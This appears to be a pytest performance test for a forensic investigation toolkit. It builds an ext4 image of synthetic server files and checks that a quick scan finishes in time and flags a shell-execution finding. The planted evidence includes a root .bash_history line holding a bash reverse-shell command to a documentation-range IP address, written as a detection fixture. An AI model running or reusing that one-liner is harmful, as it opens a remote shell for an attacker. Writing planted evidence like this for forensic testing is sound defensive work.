"""The quick profile on volumes made by mkfs.ext4: 100,000 files in a minute, 1,000,000 in eight, each in half a gigabyte.

The large one takes some minutes to make, as root; it runs with ``VOLUME_FILES=1000000`` (docs/investigation.md, Proof).
"""

from __future__ import annotations

import json
import os
import random
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.toolkit.examined import NO_TOOLS, ROOT, SOURCES, TOOLS

FILES = int(os.environ.get("VOLUME_FILES", "100000"))
SIZE = max(2 << 30, FILES * 14_000)
SECONDS, MEMORY = 60 if FILES <= 150_000 else 480, 512 << 20
_EXAMINE = """
import json, resource, sys, tempfile, time
from pathlib import Path
from forensic_toolkit import manifest
from forensic_toolkit.commands import investigation, outputs
from forensic_toolkit.filesystems import block_device

image = Path(sys.argv[1])
block_device.locate = lambda _volume: image
request = investigation.Request("disk", "fc-20260101-0123456789", "disk-1", "vol-0123456789abcdef0", "quick", 3600.0)
began = time.monotonic()
with tempfile.TemporaryDirectory() as folder:
    document = investigation.investigate(request, manifest=manifest.parse("forensics-manifest 1"), work=Path(folder))
children, own = resource.getrusage(resource.RUSAGE_CHILDREN), resource.getrusage(resource.RUSAGE_SELF)
document["wall"] = time.monotonic() - began
document["processor"] = children.ru_utime + children.ru_stime + own.ru_utime + own.ru_stime
# Its own ru_maxrss would be that of the process that started it, where that was larger (kernel: setmax_mm_hiwater_rss in exec).
lines = Path("/proc/self/status").read_text().splitlines()
peak = next(int(line.split()[1]) for line in lines if line.startswith("VmHWM"))
document["resident"] = max(children.ru_maxrss, peak) * 1024
print(json.dumps(document))
"""
_PLACES = (
    ("usr/share/doc/{}/{}", ("copyright", "changelog.gz", "README", "NEWS"), 0o644),
    ("usr/lib/python3/dist-packages/{}/{}", ("__init__.py", "core.py", "util.py", "types.py", "io.py"), 0o644),
    ("usr/lib/x86_64-linux-gnu/{}/{}", ("a.so", "b.so.1", "data.bin"), 0o644),
    ("usr/share/locale/{}/{}", ("a.mo", "b.mo"), 0o644),
    ("srv/app/node_modules/{}/{}", ("index.js", "package.json", "lib.js", "README.md"), 0o644),
    ("usr/bin/{}-{}", ("x", "ctl"), 0o755),
    ("var/cache/{}/{}", ("1", "2", "3"), 0o644),
    ("home/admin/src/{}/{}", ("main.c", "Makefile", ".gitignore"), 0o644),
)


def _populate(folder: Path, count: int) -> None:
    """Files of a server of a few years, as names, sizes and kinds go, with logs; contents are invented."""
    dice = random.Random(5)  # noqa: S311 - a load
    blob = dice.randbytes(1 << 20)
    made, number = 0, 0
    while made < count:
        place, names, mode = _PLACES[number % len(_PLACES)]
        for name in names:
            path = folder / place.format(f"n{number}", name)
            path.parent.mkdir(parents=True, exist_ok=True)
            start, size = dice.randrange(1 << 19), min(int(dice.expovariate(1 / 7000)) + 1, 400_000)
            head = b"\x7fELF" if mode == 0o755 or ".so" in name else b"# text\n"
            path.write_bytes(head + blob[start : start + size])
            path.chmod(mode)
        made += len(names)
        number += 1
    texts = {
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n",
        "etc/fstab": "LABEL=root / ext4 defaults 0 1\n",
        "root/.bash_history": "#1795225200\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    }
    for name, text in texts.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    start = datetime(2026, 11, 1, tzinfo=UTC)
    auth = "".join(
        f"{start + timedelta(seconds=10 * n):%Y-%m-%dT%H:%M:%S}+00:00 web sshd[{n % 999}]: Failed password for root from 203.0.113.{n % 250} port 5 ssh2\n"
        for n in range(100_000)
    )
    web = "".join(
        f'198.51.100.{n % 250} - - [{start + timedelta(seconds=10 * n):%d/%b/%Y:%H:%M:%S} +0000] "GET /item/{n} HTTP/1.1" 200 5 "-" "Mozilla/5.0"\n'
        for n in range(100_000)
    )
    for name, text in (("var/log/auth.log", auth), ("var/log/nginx/access.log", web)):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)


def _make(image: Path, folder: Path) -> None:
    with image.open("wb") as file:
        file.truncate(SIZE)
    options = ["mkfs.ext4", "-q", "-F", "-L", "root", "-N", str(FILES + FILES // 2)]
    folder.mkdir()
    if FILES <= 200_000:
        _populate(folder, FILES)
        subprocess.run([*options, "-d", str(folder), str(image)], check=True, capture_output=True, timeout=3600)
        shutil.rmtree(folder)
        return
    # mkfs.ext4 looks for each free inode from the start: a million of them take it half an hour. Needs root and loop devices.
    subprocess.run([*options, str(image)], check=True, capture_output=True, timeout=600)
    subprocess.run(["mount", "-o", "loop", str(image), str(folder)], check=True, timeout=60)
    try:
        _populate(folder, FILES)
    finally:
        subprocess.run(["umount", str(folder)], check=True, timeout=900)


@pytest.mark.investigate
@pytest.mark.timeout(7200)  # a million files take minutes to make, on a busy machine an hour
@pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
@pytest.mark.skipif(shutil.which("mkfs.ext4") is None, reason="mkfs.ext4 is not on this machine (Debian: e2fsprogs)")
def test_a_volume_with_a_hundred_thousand_files(tmp_path: Path) -> None:
    image = tmp_path / "volume.raw"
    _make(image, tmp_path / "tree")
    done = subprocess.run(
        [str(TOOLS), "-c", _EXAMINE, str(image)],
        cwd=ROOT,
        env={"PYTHONPATH": str(SOURCES), "PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        check=False,
        timeout=3600,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    found = json.loads(done.stdout)
    runs = sorted(found["provenance"], key=lambda item: -item["seconds"])[:8]
    print(
        f"\n[investigate] {SIZE >> 30} GiB, {found['counts']['files']} files: {found['wall']:.0f} s, {found['processor']:.0f} s of processor, "
        f"{found['resident'] >> 20} MiB resident; slowest: "
        + ", ".join(f"{item['tool']} {' '.join(item['argv'])[:40]} {item['seconds']:.1f}" for item in runs)
    )
    assert found["counts"]["files"] >= FILES
    assert any(item["technique"] == "T1059.004" for item in found["findings"])
    assert not [gap for gap in found["gaps"] if gap["what"].startswith("rule")]
    # Two cores: what other work on the machine takes does not count.
    assert found["processor"] <= 2 * SECONDS
    assert found["resident"] <= MEMORY
